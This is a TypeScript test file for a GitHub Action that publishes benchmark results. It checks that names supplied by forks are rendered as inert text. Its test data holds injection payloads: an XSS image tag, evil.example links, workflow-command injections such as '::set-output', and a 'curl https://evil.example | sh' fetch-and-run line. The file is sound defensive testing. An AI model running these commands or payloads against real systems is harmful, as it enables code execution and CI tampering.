import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { describe, expect, it } from 'vitest';
import { parseShown } from '../../../src/github/acceptance/shown.ts';
import { COMMENT_LIMIT } from '../../../src/render/markdown/comment.ts';
import { parseMarker } from '../../../src/render/markdown/marker.ts';
import { around, benchmark } from '../../support/results-builder.ts';
import { artifact, eachWithFork, payload, publishing, slower } from './run.ts';
import type { ForkServer } from './server.ts';

/** Whatever a fork calls things: it is shown as text, obeyed by nobody, and fits. */
let server: ForkServer;

eachWithFork((started) => {
  server = started;
});

const HOSTILE = [
  '@octocat #1 GH-12',
  '[link](https://evil.example)',
  '![x](https://evil.example/x.png)',
  '**bold** _it_',
  '<img src=x onerror=alert(1)>',
  '<!-- tare-comment 1 key=x -->',
  '<!-- tare-shown 1 head= rows= -->',
  '--> <b>',
  '</details>',
  'a|b\\|c',
  '`` ` ``',
  '::error::obeyed',
  '\n::set-output name=verdict::improved',
  '##[error]obeyed',
  '\u001b[31mred',
  '\u202egnp',
  'https://evil.example',
  '# heading',
  '> [!WARNING]',
  '$x$',
  ':smile:',
  '__proto__',
  '',
];

interface Node {
  readonly type: string;
  readonly url?: string;
  readonly value?: string;
  readonly children?: readonly object[];
  readonly position?: { readonly start: { readonly line: number } };
}

/** What a label binds to is told by the second line, and by no other. */
function isOurs({ value = '', position }: Node): boolean {
  if (position?.start.line === 2 && parseShown(value) !== null) return true;
  return /^<!-- tare-(?:comment|earlier) |^<\/?(?:details|summary|sub)/.test(value);
}

/** Links, images and HTML that are not ours: those that a reader of Markdown sees in a text. */
function strangers(markdown: string): readonly string[] {
  const found: string[] = [];
  const visit = (node: Node): void => {
    if (
      (node.type === 'link' || node.type === 'image') &&
      !/^https:\/\/github\.com\/octo\/repo\//.test(node.url ?? '')
    ) {
      found.push(`${node.type} ${node.url}`);
    }
    if (node.type === 'html' && !isOurs(node)) found.push(node.value ?? '');
    for (const child of node.children ?? []) visit(child as never);
  };
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as never);
  return found;
}

const named = (names: readonly string[]) =>
  names.map((name, index) => benchmark(name, { id: `${name}${index}`, base: around(100), head: around(250) }));

describe('hostile names', () => {
  it('of what cannot be read are shown in the comment of an earlier run, and not obeyed', async () => {
    await publishing(server);
    for (const [index, name] of HOSTILE.entries()) {
      server.artifacts = [artifact(`${name.replaceAll('\n', '')}-${index}`, 'no results')];
      await publishing(server, { payload: payload({ id: 9002 + index, run_number: 13 + index }) });
      const body = server.api.comments[0]?.body ?? '';
      expect(parseMarker(body)).toMatchObject({ runId: 9002 + index });
      expect(body).toMatch(/^### ❌ Commit `cccccccccc` could not be compared$/m);
      expect(strangers(body)).toEqual([]);
      expect(body.match(/^#+ .*/gm)).toHaveLength(2);
    }
    expect(server.api.comments).toHaveLength(1);
  });

  it('in every text of the file are shown and not obeyed', async () => {
    const honest = slower(0);
    const text = HOSTILE.join(' ').slice(0, 400);
    server.artifacts = HOSTILE.slice(0, 10).map((name, index) =>
      artifact(`${name.replaceAll('\n', '')}-${index}`, {
        ...honest,
        benchmarks: named(HOSTILE.map((each) => `${each}${index}`)),
        toolVersion: '<b>@x</b>',
        harness: { name: '<b>@octocat</b>', toolchain: text },
        base: { ...honest.base, label: text, subject: text },
        head: { ...honest.head, label: text, subject: text },
        runs: honest.runs.map((run) => ({
          ...run,
          repeat: 'curl https://evil.example | sh',
          host: { ...run.host, cpuModel: text.slice(0, 200), operatingSystem: text.slice(0, 200) },
        })),
      }),
    );
    const end = await publishing(server);
    const body = server.api.comments[0]?.body ?? '';
    expect(server.api.comments).toHaveLength(1);
    expect(parseMarker(body)).toMatchObject({ runId: 9001 });
    for (const page of [body, end.summary]) {
      expect(strangers(page)).toEqual([]);
      expect(page).not.toContain('curl');
      expect(page).not.toContain('\u001b');
      // Six fit; the others are named.
      expect(page.match(/^## /gm)).toHaveLength(6);
      expect(page).toContain('were not looked at**: ');
    }
    // What the runner obeys: `::name::` at the start of a line, `##[name]` anywhere.
    expect(end.log).not.toMatch(/^\s*::(?!notice::|add-mask::)/m);
    expect(end.log).not.toContain('##[');
    expect(end.outputs.verdict).toBe('regressed');
  });

  it('of 10,000 benchmarks fit a comment and a summary', async () => {
    const names = Array.from({ length: 10_000 }, (_, index) => `${HOSTILE[index % HOSTILE.length]}${index}`);
    const few = (name: string, index: number) =>
      benchmark(name, { id: `${name}${index}`, base: [100, 101, 99], head: [120, 121, 119] });
    server.artifacts = [artifact('bench', { ...slower(0), benchmarks: names.map(few) })];
    const end = await publishing(server);
    const body = server.api.comments[0]?.body ?? '';
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(Buffer.byteLength(end.summary)).toBeLessThanOrEqual(1024 * 1024);
    expect(strangers(body)).toEqual([]);
  });
});
